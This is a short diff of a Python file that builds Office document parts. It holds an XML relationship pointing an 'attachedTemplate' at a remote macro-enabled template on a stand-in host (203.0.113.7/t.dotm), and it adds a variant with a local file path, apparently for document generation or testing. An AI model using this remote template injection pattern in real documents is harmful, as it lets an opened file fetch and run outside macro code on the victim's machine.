@@ -12,6 +12,7 @@ RELATIONSHIPS = (
     '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.example/attachedTemplate" '
     'Target="http://203.0.113.7/t.dotm" TargetMode="External"/></Relationships>'
 )
+LOCAL_TEMPLATE = RELATIONSHIPS.replace("http://203.0.113.7/", r"file:///C:\Users\Ada\Templates" + "\\")
 
 
 def launcher() -> bytes:
